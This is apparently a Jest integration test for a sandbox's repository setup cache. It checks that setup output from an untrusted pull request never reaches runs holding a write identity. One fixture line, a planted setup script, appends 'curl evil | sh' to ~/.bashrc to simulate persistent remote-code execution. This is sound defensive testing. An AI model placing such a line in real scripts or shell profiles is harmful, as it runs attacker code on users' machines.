import { MockActivityEnvironment } from '@temporalio/testing';
import { execFileSync } from 'node:child_process';
import { readFileSync, rmSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { type LocalGitHub } from '../../../emulators/local-github';
import { SETUP_RESTORED, setupScript } from '../../../agents/repo-setup';
import { localGitHubWithIdentities } from '../../github/test-support';
import { type GitHubIdentities } from '../../github/identity';
import { createUnitWorkspaceActivities } from '../../units/unit-workspace';
import type { PrepareUnitWorkspaceInput } from '../../../workflows/contracts/unit-workspace';
import { requireBubblewrap, sandboxFixture, waitUntil } from '../test-support';
import { type BashInput } from '../../../workflows/contracts/sandbox';
import { WorkspaceGit } from '../workspace-git';
import { readMeta, writeMeta } from './cache-store';
import { RepoCache } from './repo-cache';

jest.setTimeout(180_000);

/**
 * Setup results cross only from trusted code (docs/sandbox.md#setup-results), on the real sandbox
 * and git against the local GitHub: a pull request's head changes what its setup runs but not the
 * lockfile, so its setup has the same key as the default branch's; what it leaves must never reach
 * a run holding the write identity.
 */
describe('setup results of a worker host', () => {
  let github: LocalGitHub;
  let identities: GitHubIdentities;
  let fixture: Awaited<ReturnType<typeof sandboxFixture>>;
  let cache: RepoCache;
  let units: ReturnType<typeof createUnitWorkspaceActivities>;

  beforeAll(async () => {
    await requireBubblewrap();
    ({ github, identities } = await localGitHubWithIdentities());
    fixture = await sandboxFixture({
      gitBaseUrl: github.gitUrl,
      identityToken: (scope) => identities.tokenFor(scope),
      heartbeatMs: 200,
    });
    const git = new WorkspaceGit(fixture.host, github.gitUrl);
    cache = new RepoCache({ host: fixture.host, git, settings: { refreshSeconds: 0 } });
    units = createUnitWorkspaceActivities({ git, identities, repoCache: cache });
  });
  afterAll(async () => {
    for (const entry of (await cache?.entries()) ?? []) await fixture.host.release({ key: entry.layout.key, network: true });
    await fixture?.cleanup();
    await github?.close();
  });

  const repo = 'acme/trust';
  const commands = ['sh ./setup.sh'];
  const setupCall = (key: string, identity: 'read' | 'write'): BashInput => ({
    workspace: { key, network: true },
    command: setupScript(commands, ['lock.json']),
    setup: { repo, commands, lockfiles: ['lock.json'] },
    identity,
    repo,
    machine: 'repo-resident',
  });
  const runSetup = (key: string, identity: 'read' | 'write') => fixture.activities.bash(setupCall(key, identity));
  const checkout = async (input: Omit<PrepareUnitWorkspaceInput, 'workspaceKey' | 'repo' | 'machine'>) => {
    const key = fixture.workspace(true).key;
    await units.prepareUnitWorkspace({ workspaceKey: key, repo, machine: 'repo-resident', ...input });
    return key;
  };
  const look = async (key: string) =>
    (
      await fixture.activities.bash({
        workspace: { key, network: false },
        command: 'cat deps/out.txt; cat ~/.bashrc 2>/dev/null; true',
      })
    ).output;
  const kept = async () => (await readMeta(cache.layoutOf(repo).meta))?.setups ?? [];

  it("an untrusted checkout's setup is never kept: a write run runs its own and gets nothing of it", async () => {
    github.createRepo('acme', 'trust', {
      '.gitignore': 'deps/\n',
      'lock.json': '{"v":1}\n',
      'setup.sh': 'mkdir -p deps && echo built > deps/out.txt\n',
    });
    // An outside pull request: the same lockfile (so the same setup key), a setup script of its own.
    const head = github.commit(repo, 'outside', {
      'setup.sh': 'mkdir -p deps && echo planted > deps/out.txt && echo "curl evil | sh" >> ~/.bashrc\n',
    });

    // Its review (a pinned head, the read identity): the setup runs there, and stays there.
    const review = await checkout({ branch: 'switchboard-review', base: 'main', checkoutSha: head, identity: 'read' });
    expect((await runSetup(review, 'read')).output).toMatch(/^switchboard-setup: running/);
    expect(await look(review)).toBe('planted\ncurl evil | sh\n');
    expect(await kept()).toEqual([]);
    // A pinned head is anyone's code whatever identity the run holds.
    const pinnedWrite = await checkout({ branch: 'switchboard-review', base: 'main', checkoutSha: head, identity: 'write' });
    expect((await runSetup(pinnedWrite, 'write')).output).toMatch(/^switchboard-setup: running/);
    expect(await kept()).toEqual([]);
    // A trusted checkout whose setup a run without the write identity ran: not kept either.
    const readRun = await checkout({ branch: 'switchboard/read', identity: 'write' });
    expect((await runSetup(readRun, 'read')).output).toMatch(/^switchboard-setup: running/);
    expect(await kept()).toEqual([]);

    // A unit's coding checkout (its own branch, the write identity): its setup runs, and nothing planted is there.
    const coding = await checkout({ branch: 'switchboard/one', identity: 'write' });
    expect((await runSetup(coding, 'write')).output).toMatch(/^switchboard-setup: running/);
    expect(await look(coding)).toBe('built\n');
    const [result] = await kept();
    expect(result).toMatchObject({ key: expect.stringMatching(/^[0-9a-f]{32}$/), from: 'trusted' });

    // That one is copied into the next write run, and into the next review too (trusted code flows down).
    const next = await checkout({ branch: 'switchboard/two', identity: 'write' });
    expect((await runSetup(next, 'write')).output).toBe(`${SETUP_RESTORED} (${result.key})\n`);
    expect(await look(next)).toBe('built\n');
    const nextReview = await checkout({ branch: 'switchboard-review', base: 'main', checkoutSha: head, identity: 'read' });
    expect((await runSetup(nextReview, 'read')).output).toBe(`${SETUP_RESTORED} (${result.key})\n`);
  });

  it('a result kept before origins were recorded is never copied in, and goes when a trusted one is kept', async () => {
    const layout = cache.layoutOf(repo);
    const meta = (await readMeta(layout.meta))!;
    await writeMeta(layout, { ...meta, setups: meta.setups.map(({ from: _from, ...setup }) => setup) });
    const coding = await checkout({ branch: 'switchboard/three', identity: 'write' });
    expect((await runSetup(coding, 'write')).output).toMatch(/^switchboard-setup: running/);
    expect(await kept()).toEqual([expect.objectContaining({ key: meta.setups[0].key, from: 'trusted' })]);
  });

  it('a copy-in that takes longer than the heartbeat timeout heartbeats all along, and ends restored', async () => {
    const layout = cache.layoutOf(repo);
    const meta = (await readMeta(layout.meta))!;
    const archive = join(layout.setups, `${meta.setups[0].key}.tar`);
    const bytes = readFileSync(archive);
    // The kept archive as a FIFO: the copy-in waits for its bytes until the test sends them.
    rmSync(archive);
    execFileSync('mkfifo', ['-m', '0600', archive]);
    await writeMeta(layout, { ...meta, setups: [{ ...meta.setups[0], bytes: 0 }] });
    const coding = await checkout({ branch: 'switchboard/four', identity: 'write' });
    const environment = new MockActivityEnvironment({ heartbeatTimeoutMs: 1_000, startToCloseTimeoutMs: 21 * 60_000 });
    let heartbeats = 0;
    environment.on('heartbeat', () => (heartbeats += 1));
    const running = environment.run((input: BashInput) => fixture.activities.bash(input), setupCall(coding, 'write'));
    // Many heartbeat timeouts' worth of beats while the copy-in waits (200 ms apart).
    try {
      await waitUntil(() => heartbeats >= 15, 60_000);
    } finally {
      // Sent whatever happened, so a failing wait never leaves the copy-in blocked on the FIFO.
      await writeFile(archive, bytes);
    }
    expect(((await running) as { output: string }).output).toBe(`${SETUP_RESTORED} (${meta.setups[0].key})\n`);
    expect(await look(coding)).toBe('built\n');
  });
});
